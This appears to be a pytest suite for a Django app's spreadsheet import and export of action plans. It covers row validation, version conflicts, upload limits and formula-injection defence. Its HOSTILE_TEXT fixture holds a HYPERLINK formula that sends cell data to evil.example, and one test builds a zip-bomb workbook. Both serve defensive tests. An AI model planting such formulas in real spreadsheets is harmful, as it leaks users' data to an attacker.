"""Importing action plans: every row checked before anything is saved."""

import csv
import datetime
import io
import zipfile

import pytest
from django.test import override_settings
from django.urls import reverse
from django.utils import timezone
from openpyxl import Workbook, load_workbook
from openpyxl.chart import BarChart, Reference

from core.history import history_with_changes
from priorities import services, spreadsheets
from priorities.models import Action, Assessment
from tests.factories import (
    ActionFactory,
    AssessmentFactory,
    EvidenceTypeFactory,
    GroupFactory,
    PlanFactory,
    PriorityFactory,
)


def csv_bytes(rows, header=None):
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(header or spreadsheets.COLUMNS)
    for row in rows:
        writer.writerow([row.get(c, "") for c in (header or spreadsheets.COLUMNS)])
    return out.getvalue().encode()


def preview(plan, rows, header=None):
    return spreadsheets.preview_import(
        plan, spreadsheets.read_rows("plan.csv", csv_bytes(rows, header))
    )


@pytest.fixture
def plan(world):
    PriorityFactory(plan=world.plan, number=2)
    return world.plan


GOOD_ROW = {
    "Ref": "2a",
    "Priority": "2",
    "Action": "Embed the threshold document",
    "Timescale": "Ongoing",
}

ROW_ERRORS = {
    "unknown rating": (
        {**GOOD_ROW, "Process rating": "Amber-ish", "Impact rating": "GREY"},
        "'Amber-ish' is not a rating",
    ),
    "missing action text": ({**GOOD_ROW, "Action": " "}, "The action text is missing."),
    "unknown priority": (
        {**GOOD_ROW, "Priority": "9"},
        "Priority '9' is not in this plan (its priorities: 1, 2).",
    ),
    "date that is not a date": (
        {**GOOD_ROW, "Due date": "next spring"},
        "The due date 'next spring' is not a date",
    ),
    "missing ref": ({**GOOD_ROW, "Ref": ""}, "The ref is missing."),
    "unknown group": (
        {**GOOD_ROW, "Oversight group": "Nobody"},
        "The oversight group 'Nobody' is not one of this board's groups.",
    ),
    "red without commentary": (
        {**GOOD_ROW, "Process rating": "RED", "Impact rating": "GREY"},
        "a RED or AMBER rating needs commentary",
    ),
    "one rating only, on a new action": (
        {**GOOD_ROW, "Process rating": "GREEN"},
        "Action 2a has no impact rating yet to carry over: give an impact rating too, "
        "or leave the process rating blank.",
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", ROW_ERRORS)
def test_a_bad_row_is_shown_with_its_error_and_nothing_is_saved(case, plan):
    row, message = ROW_ERRORS[case]
    result = preview(plan, [GOOD_ROW | {"Ref": "2b"}, row])
    assert not result.valid
    assert result.rows[0].status == "create"
    assert result.rows[1].number == 3
    assert any(message in e for e in result.rows[1].errors), result.rows[1].errors
    with pytest.raises(ValueError, match="nothing was saved"):
        spreadsheets.import_save(
            plan=plan, rows=[{**GOOD_ROW, "Ref": "2b"}, row], pins=result.pins, recorded_by=None
        )
    assert not Action.objects.filter(plan=plan, ref="2b").exists()


@pytest.mark.django_db
def test_a_duplicate_ref_names_both_rows(plan):
    result = preview(plan, [GOOD_ROW, GOOD_ROW])
    assert result.rows[1].errors == ["Ref 2a is also on row 2; each ref appears once."]


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "The file is empty."),
        (b"   \n  ", "The file is empty."),
        (b"\x89PNG\r\n\x1a\n\x00\x00\x00", "not a spreadsheet"),
        (b"PK\x03\x04broken zip", "not a valid XLSX file"),
        (
            b"Reference,What\n1a,Do it\n",
            "The columns are wrong: it has no 'Ref' or 'Action' column; Assure does not know the columns 'Reference', 'What'",
        ),
    ],
)
def test_a_file_that_is_not_an_action_plan_is_refused_as_a_whole(content, message):
    with pytest.raises(
        spreadsheets.SpreadsheetError, match=message.replace("(", r"\(").replace(")", r"\)")
    ):
        spreadsheets.read_rows(
            "upload.png" if content.startswith(b"\x89") else "upload.csv", content
        )


@override_settings(ASSURE_MAX_UPLOAD_BYTES=100)
def test_a_file_too_large_is_refused():
    with pytest.raises(spreadsheets.SpreadsheetError, match="the largest Assure accepts"):
        spreadsheets.read_rows("big.csv", b"Ref,Action\n" + b"1a,x\n" * 50)


@pytest.mark.django_db
def test_a_good_import_creates_changes_and_rates_in_one_go(plan, world, users):
    EvidenceTypeFactory(slug="pi", name="PI")
    rows = [
        {
            "Ref": world.action.ref,
            "Priority": "1",
            "Action": world.action.description,
            "Timescale": "March 2017",
            "Lead": world.action.lead,
            "Oversight group": world.group.slug,
        },
        {
            **GOOD_ROW,
            "Process rating": "GREEN",
            "Impact rating": "GREEN",
            "Evidence types": "PI",
            "Assessed on": "31/03/2017",
        },
    ]
    parsed = spreadsheets.read_rows("plan.csv", csv_bytes(rows))
    result = spreadsheets.preview_import(plan, parsed)
    assert [r.status for r in result.rows] == ["change", "create"]
    assert result.rows[0].changed_fields == ["Timescale"]
    spreadsheets.import_save(plan=plan, rows=parsed, pins=result.pins, recorded_by=users["manager"])
    world.action.refresh_from_db()
    assert world.action.timescale == "March 2017"
    created = Action.objects.get(plan=plan, ref="2a")
    assessment = created.assessments.get()
    assert (assessment.process, assessment.impact, assessment.assessed_on) == (
        "GREEN",
        "GREEN",
        datetime.date(2017, 3, 31),
    )
    assert assessment.recorded_by == users["manager"]


@pytest.mark.django_db
def test_an_exported_plan_imports_back_to_the_identical_plan(world, users):
    source = world.plan
    PriorityFactory(plan=source, number=2)
    sag = GroupFactory(
        slug="sag", name="Scrutiny and Assurance Group", short_name="S&AG", boards=[world.board]
    )
    EvidenceTypeFactory(slug="voice", name="Voice")
    second = ActionFactory(
        plan=source,
        priority=source.priorities.get(number=2),
        ref="2b",
        due_date=datetime.date(2016, 3, 31),
        oversight_group=sag,
        reporting_to=world.group,
        impact_expected="Fewer re-referrals",
        how_we_will_know="Scorecard",
    )
    AssessmentFactory(
        action=second,
        process="AMBER",
        impact="GREY",
        commentary="Waiting on the audit",
        assessed_on=datetime.date(2016, 6, 30),
    )
    exported = spreadsheets.export_xlsx(source)

    copy = PlanFactory(board=world.board, slug="copy")
    PriorityFactory(plan=copy, number=1, title="One")
    PriorityFactory(plan=copy, number=2, title="Two")
    parsed = spreadsheets.read_rows("plan.xlsx", exported)
    checked = spreadsheets.preview_import(copy, parsed)
    assert checked.valid
    spreadsheets.import_save(
        plan=copy, rows=parsed, pins=checked.pins, recorded_by=users["manager"]
    )
    assert sheet_rows(spreadsheets.export_xlsx(copy)) == sheet_rows(exported)

    # and back into the plan it came from, it changes nothing
    again = spreadsheets.preview_import(
        source, spreadsheets.read_rows("plan.csv", spreadsheets.export_csv(source))
    )
    assert {r.status for r in again.rows} == {"unchanged"}
    assessments = Assessment.objects.count()
    spreadsheets.import_save(
        plan=source,
        rows=spreadsheets.read_rows("plan.csv", spreadsheets.export_csv(source)),
        pins=again.pins,
        recorded_by=None,
    )
    assert Assessment.objects.count() == assessments


def sheet_rows(content):
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [list(r) for r in sheet.iter_rows(values_only=True)]


@pytest.mark.django_db
def test_import_through_the_pages_previews_then_saves_on_confirm(plan, world, manager_client):
    url = reverse("priorities:plan_import", kwargs={"board": world.board.slug, "plan": plan.slug})
    upload = io.BytesIO(csv_bytes([GOOD_ROW]))
    upload.name = "plan.csv"
    response = manager_client.post(url, {"file": upload})
    assert response.status_code == 200
    assert "This import would add 1 actions" in response.content.decode()
    assert not Action.objects.filter(plan=plan, ref="2a").exists()
    token = response.context["token"]
    confirm = reverse(
        "priorities:plan_import_confirm", kwargs={"board": world.board.slug, "plan": plan.slug}
    )
    response = manager_client.post(confirm, {"token": token})
    assert response.status_code == 302
    assert Action.objects.filter(plan=plan, ref="2a").exists()
    # the same confirmation again saves nothing more
    response = manager_client.post(confirm, {"token": token}, follow=True)
    assert "expired or was already saved" in response.content.decode()


@pytest.mark.django_db
def test_an_import_with_a_bad_row_shows_it_and_offers_no_confirmation(plan, world, manager_client):
    url = reverse("priorities:plan_import", kwargs={"board": world.board.slug, "plan": plan.slug})
    upload = io.BytesIO(
        csv_bytes(
            [
                GOOD_ROW,
                {**GOOD_ROW, "Ref": "2c", "Process rating": "Amber-ish", "Impact rating": "GREY"},
            ]
        )
    )
    upload.name = "plan.csv"
    response = manager_client.post(url, {"file": upload})
    html = response.content.decode()
    assert response.status_code == 400
    assert "Row 3 (ref 2c): The process rating &#x27;Amber-ish&#x27; is not a rating" in html
    assert "Confirm and import" not in html


@pytest.mark.django_db
@override_settings(ASSURE_MAX_UPLOAD_BYTES=100)
def test_a_file_too_large_is_refused_on_the_page_and_nothing_saved(plan, world, manager_client):
    url = reverse("priorities:plan_import", kwargs={"board": world.board.slug, "plan": plan.slug})
    content = csv_bytes([GOOD_ROW] * 5)
    upload = io.BytesIO(content)
    upload.name = "big.csv"
    response = manager_client.post(url, {"file": upload})
    assert response.status_code == 400
    assert (
        f"The file is {len(content)} bytes; the largest Assure accepts is 100 bytes."
        in response.content.decode()
    )
    assert not Action.objects.filter(plan=plan, ref="2a").exists()


# --- formulas: inert in the export, the same text back on import ----------------

HOSTILE_TEXT = {
    "lead": '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "timescale": "+1",
    "description": "-  seed text",
    "how_we_will_know": "@SUM(A1:A9)",
    "impact_expected": "\tindented",
    "oversight_note": "\rreturn",
}


@pytest.fixture
def hostile(world):
    """Written past the models' text rule (core.text trims a leading tab or
    CR), as text stored before the rule was: the writers neutralise it all
    the same."""
    Action.objects.filter(pk=world.action.pk).update(**HOSTILE_TEXT)
    world.action.refresh_from_db()
    return world.action


def csv_table(content):
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_a_csv_export_quotes_every_cell_a_spreadsheet_would_run(hostile, world):
    header, row = csv_table(spreadsheets.export_csv(world.plan))
    cells = dict(zip(header, row, strict=True))
    assert cells["Lead"] == "'" + HOSTILE_TEXT["lead"]
    assert cells["Timescale"] == "'+1"
    assert cells["Action"] == "'-  seed text"
    assert cells["How we will know"] == "'@SUM(A1:A9)"
    assert cells["Impact expected"] == "'\tindented"
    assert cells["Oversight and reporting"] == "'\rreturn"


@pytest.mark.django_db
def test_an_xlsx_export_writes_those_cells_as_text_not_formulas(hostile, world):
    sheet = load_workbook(io.BytesIO(spreadsheets.export_xlsx(world.plan))).worksheets[0]
    header = [c.value for c in sheet[1]]
    cells = dict(zip(header, sheet[2], strict=True))
    for column in ("Lead", "Timescale", "Action", "How we will know", "Impact expected"):
        assert cells[column].data_type == "s", column
        assert cells[column].quotePrefix is True, column
    assert cells["Lead"].value == HOSTILE_TEXT["lead"]


@pytest.mark.django_db
@pytest.mark.parametrize("export", [spreadsheets.export_csv, spreadsheets.export_xlsx])
def test_those_cells_import_back_as_the_text_that_was_exported(export, hostile, world):
    name = "plan.csv" if export is spreadsheets.export_csv else "plan.xlsx"
    rows = spreadsheets.read_rows(name, export(world.plan))
    assert rows[0]["Lead"] == HOSTILE_TEXT["lead"]
    assert rows[0]["Oversight and reporting"] == "\rreturn"
    result = spreadsheets.preview_import(world.plan, rows)
    assert [(r.status, r.changes) for r in result.rows] == [("unchanged", [])]


# --- the version: an older file cannot undo a newer edit ------------------------


@pytest.mark.django_db
def test_the_export_carries_each_actions_version_in_a_labelled_column(world):
    services.action_update(
        action_id=world.action.pk, expected_version=1, changes={"lead": "Nick Chamberlain"}
    )
    header, row = csv_table(spreadsheets.export_csv(world.plan))
    assert header[-1] == "Version"
    assert row[-1] == "2"
    sheet = load_workbook(io.BytesIO(spreadsheets.export_xlsx(world.plan))).worksheets[0]
    assert (sheet.cell(1, len(header)).value, sheet.cell(2, len(header)).value) == ("Version", 2)


@pytest.mark.django_db
def test_a_file_exported_before_a_colleagues_edit_shows_that_row_as_a_conflict(
    world, manager_client
):
    world.action.lead = "Jo Fisher"
    world.action.save()
    exported = spreadsheets.export_csv(world.plan)
    services.action_update(
        action_id=world.action.pk,
        expected_version=world.action.version,
        changes={"lead": "Nick Chamberlain", "reporting_to": world.group},
    )
    result = spreadsheets.preview_import(world.plan, spreadsheets.read_rows("old.csv", exported))
    [row] = result.rows
    assert row.status == "conflict"
    assert not result.valid
    assert row.changes == []
    assert row.errors == [
        "Action 1a was changed in Assure after this file was exported (the file has version 1, "
        "Assure has version 2). Export the plan again and make your changes in the new file."
    ]
    assert {c.label: str(c.theirs) for c in row.their_changes} == {
        "Lead": "Nick Chamberlain",
        "Reporting to": world.group.name,
    }
    # on the page: shown as a conflict, with names, and no way to confirm
    response = upload(manager_client, world, "old.csv", exported)
    html = response.content.decode()
    assert response.status_code == 400
    assert "Changed since export" in html
    assert f"Now: {world.group.name}" in html
    assert "Confirm and import" not in html
    world.action.refresh_from_db()
    assert world.action.lead == "Nick Chamberlain"


def upload(client, world, name, content, plan=None):
    url = reverse(
        "priorities:plan_import",
        kwargs={"board": world.board.slug, "plan": (plan or world.plan).slug},
    )
    file = io.BytesIO(content)
    file.name = name
    return client.post(url, {"file": file})


def confirm(client, world, token):
    url = reverse(
        "priorities:plan_import_confirm",
        kwargs={"board": world.board.slug, "plan": world.plan.slug},
    )
    return client.post(url, {"token": token})


@pytest.mark.django_db
def test_a_colleagues_edit_between_preview_and_confirm_is_kept_and_nothing_is_saved(
    plan, world, manager_client
):
    other = GroupFactory(slug="sag", name="Scrutiny and Assurance Group", boards=[world.board])
    file = csv_bytes(
        [
            {"Ref": "1a", "Priority": "1", "Action": world.action.description, "Lead": "From file"},
            GOOD_ROW | {"Process rating": "GREY", "Impact rating": "GREY"},
        ]
    )
    preview_page = upload(manager_client, world, "plan.csv", file)
    assert preview_page.status_code == 200
    assert manager_client.session["assure-import"]["pins"] == {"1a": 1, "2a": None}

    services.action_update(
        action_id=world.action.pk,
        expected_version=1,
        changes={"lead": "Colleague", "oversight_group": other},
    )
    response = confirm(manager_client, world, preview_page.context["token"])

    html = response.content.decode()
    assert response.status_code == 409
    assert "Someone else changed an action in this import since your preview" in html
    assert "Row 2 (action 1a)" in html
    assert "Action 1a was changed by someone else since the preview." in html
    assert "Now: Colleague" in html
    assert "Now: Scrutiny and Assurance Group" in html  # a name, not an id
    world.action.refresh_from_db()
    assert (world.action.lead, world.action.oversight_group, world.action.version) == (
        "Colleague",
        other,
        2,
    )
    assert not Action.objects.filter(plan=plan, ref="2a").exists()
    assert not Assessment.objects.exists()
    # and that preview cannot be confirmed again
    assert "assure-import" not in manager_client.session


@pytest.mark.django_db
def test_the_confirm_refuses_a_row_someone_added_since_the_preview(plan, world):
    rows = spreadsheets.read_rows("plan.csv", csv_bytes([GOOD_ROW]))
    checked = spreadsheets.preview_import(plan, rows)
    services.action_create(plan=plan, ref="2a", description="Added by a colleague")
    with pytest.raises(spreadsheets.ImportConflict) as conflict:
        spreadsheets.import_save(plan=plan, rows=rows, pins=checked.pins, recorded_by=None)
    assert conflict.value.rows[0].errors == [
        "Action 2a was added by someone else since the preview."
    ]
    assert Action.objects.get(plan=plan, ref="2a").description == "Added by a colleague"


@pytest.mark.django_db
def test_the_confirm_saves_through_the_service_with_the_pinned_version(plan, world, monkeypatch):
    rows = spreadsheets.read_rows(
        "plan.csv", csv_bytes([{"Ref": "1a", "Action": world.action.description, "Lead": "New"}])
    )
    checked = spreadsheets.preview_import(plan, rows)
    calls = []
    real = services.action_update
    monkeypatch.setattr(
        services, "action_update", lambda **kwargs: calls.append(kwargs) or real(**kwargs)
    )
    spreadsheets.import_save(plan=plan, rows=rows, pins=checked.pins, recorded_by=None)
    assert [(c["action_id"], c["expected_version"]) for c in calls] == [(world.action.pk, 1)]


# --- a missing column means "not in this file" ---------------------------------


@pytest.mark.django_db
def test_columns_missing_from_a_file_leave_those_values_alone(world, manager_client):
    world.action.lead = "Jo Fisher"
    world.action.timescale = "Ongoing"
    world.action.due_date = datetime.date(2017, 3, 31)
    world.action.how_we_will_know = "Scorecard"
    world.action.save()
    AssessmentFactory(action=world.action, process="GREEN", impact="GREY")
    header = ["Ref", "Action", "Timescale"]
    content = csv_bytes(
        [{"Ref": "1a", "Action": world.action.description, "Timescale": "March 2017"}], header
    )
    result = spreadsheets.preview_import(world.plan, spreadsheets.read_rows("few.csv", content))
    [row] = result.rows
    assert row.status == "change"
    assert row.changes == [spreadsheets.Change("Timescale", "Ongoing", "March 2017")]
    assert row.assessment is None

    response = upload(manager_client, world, "few.csv", content)
    html = response.content.decode()
    assert "Was: Ongoing<br>Now: March 2017" in html
    response = confirm(manager_client, world, response.context["token"])
    assert response.status_code == 302
    world.action.refresh_from_db()
    assert (
        world.action.timescale,
        world.action.lead,
        world.action.due_date,
        world.action.oversight_group,
        world.action.priority.number,
        world.action.how_we_will_know,
    ) == ("March 2017", "Jo Fisher", datetime.date(2017, 3, 31), world.group, 1, "Scorecard")
    assert world.action.assessments.count() == 1


@pytest.mark.django_db
def test_the_preview_shows_the_old_and_new_value_of_every_changed_field(plan, world):
    rows = [
        {
            "Ref": "1a",
            "Priority": "2",
            "Action": world.action.description,
            "Due date": "31/03/2017",
            "Oversight group": "",
        }
    ]
    [row] = preview(plan, rows, ["Ref", "Priority", "Action", "Due date", "Oversight group"]).rows
    assert row.changes == [
        spreadsheets.Change("Priority", "Priority 1", "Priority 2"),
        spreadsheets.Change("Due date", "", "2017-03-31"),
        spreadsheets.Change("Oversight group", world.group.name, ""),
    ]


# --- one rating carried over from the current assessment ------------------------

ONLY_ONE_RATING = {
    "process only": ({"Process rating": "AMBER", "Commentary": "Staffing"}, ("AMBER", "GREY")),
    "impact only": ({"Impact rating": "AMBER", "Commentary": "Staffing"}, ("GREEN", "AMBER")),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", ONLY_ONE_RATING)
def test_a_row_with_one_rating_carries_the_other_over(case, plan, world):
    AssessmentFactory(action=world.action, process="GREEN", impact="GREY")
    given, expected = ONLY_ONE_RATING[case]
    row = {"Ref": "1a", "Action": world.action.description, **given}
    rows = spreadsheets.read_rows("plan.csv", csv_bytes([row]))
    checked = spreadsheets.preview_import(plan, rows)
    assert checked.valid, checked.rows[0].errors
    spreadsheets.import_save(plan=plan, rows=rows, pins=checked.pins, recorded_by=None)
    latest = world.action.assessments.order_by("-id").first()
    assert (latest.process, latest.impact, latest.commentary) == (*expected, "Staffing")


REFUSED_CARRY_OVER = {
    "never assessed, process only": (
        None,
        {"Process rating": "GREEN"},
        "Action 1a has no impact rating yet to carry over: give an impact rating too, "
        "or leave the process rating blank.",
    ),
    "never assessed, impact only": (
        None,
        {"Impact rating": "GREY"},
        "Action 1a has no process rating yet to carry over: give a process rating too, "
        "or leave the impact rating blank.",
    ),
    "carried RED process needs commentary": (
        ("RED", "GREY"),
        {"Impact rating": "GREEN", "Evidence": "Audit, March 2017"},
        "Say why: a RED or AMBER rating needs commentary. (The process rating RED is carried "
        "over from action 1a's current assessment.)",
    ),
    "carried AMBER impact needs commentary": (
        ("GREEN", "AMBER"),
        {"Process rating": "GREY"},
        "Say why: a RED or AMBER rating needs commentary. (The impact rating AMBER is carried "
        "over from action 1a's current assessment.)",
    ),
    "carried GREEN impact needs evidence": (
        ("AMBER", "GREEN"),
        {"Process rating": "GREY"},
        "An impact rating of GREEN or BLUE needs at least one piece of evidence: choose an "
        "evidence type or describe the evidence. (The impact rating GREEN is carried over "
        "from action 1a's current assessment.)",
    ),
}


@pytest.mark.django_db
@pytest.mark.parametrize("case", REFUSED_CARRY_OVER)
def test_a_row_with_one_rating_says_which_rule_refuses_it(case, plan, world):
    current, given, message = REFUSED_CARRY_OVER[case]
    if current:
        AssessmentFactory(
            action=world.action, process=current[0], impact=current[1], commentary="Why"
        )
    row = {"Ref": "1a", "Action": world.action.description, **given}
    [result] = preview(plan, [row]).rows
    assert result.errors == [message]


# --- every rule in the service -------------------------------------------------


@pytest.mark.django_db
def test_an_import_refuses_an_assessment_dated_after_today(plan, world):
    tomorrow = timezone.localdate() + datetime.timedelta(days=1)
    row = {**GOOD_ROW, "Process rating": "GREY", "Impact rating": "GREY"}
    [future] = preview(plan, [row | {"Assessed on": tomorrow.isoformat()}]).rows
    assert future.errors == [
        f"The assessed on date {tomorrow.isoformat()} is in the future: "
        "The date of the assessment cannot be in the future."
    ]
    [today] = preview(plan, [row | {"Assessed on": timezone.localdate().isoformat()}]).rows
    assert today.errors == []


@pytest.mark.django_db
@pytest.mark.parametrize("ref", ["3/a", "3 a", "-3a", "3a?"])
def test_an_import_refuses_a_ref_outside_the_documented_characters(ref, plan):
    [row] = preview(plan, [GOOD_ROW | {"Ref": ref}]).rows
    assert row.status == "error"
    assert row.errors == [
        f"The ref {ref!r} cannot be used. A reference may use only letters, digits, full stops "
        '(.) and hyphens (-), and starts with a letter or a digit, for example "1a" or "R12".'
    ]


@pytest.mark.django_db
def test_new_actions_from_an_import_go_through_the_service(plan, world, monkeypatch):
    rows = spreadsheets.read_rows("plan.csv", csv_bytes([GOOD_ROW, GOOD_ROW | {"Ref": "2b"}]))
    checked = spreadsheets.preview_import(plan, rows)
    created = []
    real = services.action_create
    monkeypatch.setattr(
        services, "action_create", lambda **kwargs: created.append(kwargs["ref"]) or real(**kwargs)
    )
    spreadsheets.import_save(plan=plan, rows=rows, pins=checked.pins, recorded_by=None)
    assert created == ["2a", "2b"]
    assert list(Action.objects.filter(plan=plan).values_list("ref", "position")) == [
        ("1a", world.action.position),
        ("2a", world.action.position + 1),
        ("2b", world.action.position + 2),
    ]


# --- no 500 from any file -------------------------------------------------------


def xlsx_bytes(rows):
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def chart_only_workbook():
    book = Workbook()
    data = book.active
    data.append([1])
    chart = BarChart()
    chart.add_data(Reference(data, min_col=1, min_row=1, max_row=1))
    book.create_chartsheet().add_chart(chart)
    book.remove(data)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


WHOLE_FILE_REFUSALS = {
    "a chart sheet only": (
        "chart.xlsx",
        chart_only_workbook,
        "The workbook has no sheet of rows (only charts): put the actions on the first sheet.",
    ),
    "a corrupt workbook": (
        "broken.xlsx",
        lambda: xlsx_bytes([["Ref", "Action"], ["1a", "x"]])[:-300],
        "The file is not a spreadsheet Assure can read: it is not a valid XLSX file.",
    ),
    "a workbook whose sheet is not XML": (
        "damaged.xlsx",
        lambda: replace_member(
            xlsx_bytes([["Ref", "Action"]]), "xl/worksheets/sheet1.xml", b"<worksheet><sheetData"
        ),
        "The file is not a spreadsheet Assure can read",
    ),
    "100,000 rows": (
        "huge.csv",
        lambda: b"Ref,Action\n" + b"1a,Do it\n" * 100_000,
        "The file has more than 2,000 rows; Assure imports at most 2,000 rows at a time. "
        "Split it into smaller files.",
    ),
    "a cell longer than the CSV reader takes": (
        "long.csv",
        lambda: b"Ref,Action\n1a," + b"x" * 200_000 + b"\n",
        "The CSV file could not be read: field larger than field limit",
    ),
}


def replace_member(content, name, data):
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info.filename, source.read(info))
        target.writestr(name, data)
    return out.getvalue()


@pytest.mark.django_db
@pytest.mark.parametrize("case", WHOLE_FILE_REFUSALS)
@override_settings(ASSURE_MAX_UPLOAD_BYTES=4 * 1024 * 1024)
def test_a_file_assure_cannot_read_is_refused_on_the_page_not_a_500(case, world, manager_client):
    name, make, message = WHOLE_FILE_REFUSALS[case]
    response = upload(manager_client, world, name, make())
    assert response.status_code == 400
    assert message in response.context["form"].errors["file"][0]
    assert Action.objects.count() == 1


@pytest.mark.django_db
@override_settings(ASSURE_IMPORT_MAX_UNPACKED_BYTES=1_048_576)
def test_a_workbook_that_unpacks_past_the_limit_is_refused_with_the_limit(world, manager_client):
    bomb = replace_member(
        xlsx_bytes([["Ref", "Action"], ["1a", "x"]]), "xl/worksheets/sheet1.xml", b" " * 3_000_000
    )
    response = upload(manager_client, world, "bomb.xlsx", bomb)
    assert response.status_code == 400
    assert response.context["form"].errors["file"] == [
        "The workbook unpacks to 2.9 MB; the most Assure opens is 1.0 MB. Save it as a CSV "
        "file, or split it."
    ]


@pytest.mark.django_db
@override_settings(ASSURE_IMPORT_MAX_ROWS=3)
def test_the_row_limit_comes_from_the_settings(plan):
    with pytest.raises(spreadsheets.SpreadsheetError, match="more than 3 rows"):
        spreadsheets.read_rows("plan.csv", csv_bytes([GOOD_ROW] * 4))
    assert len(spreadsheets.read_rows("plan.csv", csv_bytes([GOOD_ROW] * 3))) == 3


@pytest.mark.django_db
def test_time_and_duration_cells_are_shown_as_row_errors_and_the_preview_fits_the_session(
    plan, world, manager_client
):
    header = ["Ref", "Action", "Timescale", "Due date", "Assessed on"]
    content = xlsx_bytes(
        [
            header,
            ["2a", "Audit", datetime.timedelta(hours=36), datetime.time(9, 30), None],
            ["2b", "Train", datetime.time(17, 0), datetime.date(2017, 3, 31), None],
        ]
    )
    response = upload(manager_client, world, "times.xlsx", content)
    assert response.status_code == 400
    rows = response.context["preview"].rows
    assert rows[0].errors == [
        "The due date '09:30:00' is not a date; write it as 2016-03-31 or 31/03/2016."
    ]
    assert rows[1].errors == []
    # a good file of such cells waits in the session (JSON) until the confirm
    good = xlsx_bytes([header, ["2b", "Train", datetime.time(17, 0), datetime.date(2017, 3, 31)]])
    response = upload(manager_client, world, "times.xlsx", good)
    assert response.status_code == 200
    assert manager_client.session["assure-import"]["rows"] == [
        {
            "Ref": "2b",
            "Action": "Train",
            "Timescale": "17:00:00",
            "Due date": "2017-03-31",
            "Assessed on": None,
        }
    ]
    assert confirm(manager_client, world, response.context["token"]).status_code == 302
    assert Action.objects.get(plan=plan, ref="2b").timescale == "17:00:00"


@pytest.mark.django_db
@pytest.mark.parametrize("name", ["nul.csv", "nul.xlsx"])
def test_a_nul_character_in_a_cell_is_a_row_error(name, plan, world, manager_client):
    rows = [["Ref", "Action", "Lead"], ["2a", "Audit", "Jo\x00 Fisher"]]
    padding = [["2b", "x" * 100, ""]] * 30  # past the first 2 KB, where a binary file shows
    table = [rows[0], *padding, rows[1]]
    content = (
        spreadsheets.sheets.write_csv(table)
        if name.endswith(".csv")
        else spreadsheets.sheets.write_xlsx(table)
    )
    response = upload(manager_client, world, name, content)
    assert response.status_code == 400
    errors = {r.ref: r.errors for r in response.context["preview"].rows}
    assert errors["2a"] == [
        "The Lead cell holds a NUL character (an invisible control character that Assure "
        "cannot store); remove it."
    ]
    assert not Action.objects.filter(ref="2a").exists()


@pytest.mark.django_db
@override_settings(ASSURE_MAX_UPLOAD_BYTES=4 * 1024 * 1024)
def test_an_over_long_cell_is_a_row_error(plan, world, manager_client):
    content = csv_bytes([GOOD_ROW | {"How we will know": "x" * 40_000}])
    response = upload(manager_client, world, "long.csv", content)
    assert response.status_code == 400
    assert response.context["preview"].rows[0].errors == [
        "The How we will know cell is 40,000 characters long; a cell may hold at most 32,767."
    ]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("version", "message"),
    [
        (
            "two",
            "The version 'two' is not a whole number; keep the Version column as Assure "
            "exported it.",
        ),
        (
            "5",
            "The file says version 5 of action 1a, but Assure has only version 1: was the file "
            "exported from another plan?",
        ),
    ],
)
def test_a_version_assure_never_wrote_is_a_row_error(version, message, world):
    row = {"Ref": "1a", "Action": world.action.description, "Version": version}
    [result] = preview(world.plan, [row], ["Ref", "Action", "Version"]).rows
    assert (result.status, result.errors) == ("error", [message])


@pytest.mark.django_db
def test_a_row_from_the_current_version_is_a_change_and_a_blank_version_is_allowed(world):
    header = ["Ref", "Action", "Lead", "Version"]
    for version in ("1", ""):
        row = {"Ref": "1a", "Action": world.action.description, "Lead": "New", "Version": version}
        [result] = preview(world.plan, [row], header).rows
        assert (result.status, result.errors, result.pinned_version) == ("change", [], 1)


@pytest.mark.django_db
def test_an_exported_file_confirmed_after_a_colleagues_edit_names_the_edit_since_the_preview(
    world,
):
    rows = spreadsheets.read_rows("plan.csv", spreadsheets.export_csv(world.plan))
    rows[0]["Timescale"] = "March 2017"
    checked = spreadsheets.preview_import(world.plan, rows)
    assert [r.status for r in checked.rows] == ["change"]
    services.action_update(
        action_id=world.action.pk, expected_version=1, changes={"reporting_to": world.group}
    )
    with pytest.raises(spreadsheets.ImportConflict) as conflict:
        spreadsheets.import_save(plan=world.plan, rows=rows, pins=checked.pins, recorded_by=None)
    [row] = conflict.value.rows
    assert row.errors == ["Action 1a was changed by someone else since the preview."]
    assert [(c.label, c.theirs) for c in row.their_changes] == [("Reporting to", world.group)]
    world.action.refresh_from_db()
    assert world.action.timescale != "March 2017"
    assert world.action.reporting_to == world.group


#: The columns of a file that changes only actions' text.
TEXT_COLUMNS = ["Ref", "Action", "Impact expected", "Lead"]


def csv_text_bytes(rows):
    return csv_bytes(rows, TEXT_COLUMNS)


def xlsx_text_bytes(rows):
    return xlsx_bytes([TEXT_COLUMNS, *([row.get(c, "") for c in TEXT_COLUMNS] for row in rows)])


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "as_bytes"), [("plan.csv", csv_text_bytes), ("plan.xlsx", xlsx_text_bytes)]
)
def test_cells_with_crlf_and_trailing_spaces_change_only_what_differs(name, as_bytes, world, users):
    """A spreadsheet's cells hold CRLF (or a lone CR) and trailing spaces: an
    action whose text differs from Assure's only in those is unchanged, a
    row that also changes the lead changes the lead alone, and a new
    action's text is stored in the one form core.text gives it."""
    action = world.action
    action.description = "Run the neglect audit.\nReport to the board."
    action.impact_expected = "Fewer repeat referrals."
    action.save()
    same = {
        "Ref": action.ref,
        "Action": "Run the neglect audit.  \r\nReport to the board.\r\n",
        "Impact expected": "Fewer repeat referrals. \t",
        "Lead": f"{action.lead} ",
    }
    new = {"Ref": "1b", "Action": "Train staff.\rCheck uptake.  ", "Lead": " Head of\r\nService "}
    checked = spreadsheets.preview_import(
        world.plan, spreadsheets.read_rows(name, as_bytes([same, new]))
    )
    assert [(r.ref, r.status, r.changes) for r in checked.rows] == [
        ("1a", "unchanged", []),
        ("1b", "create", []),
    ]
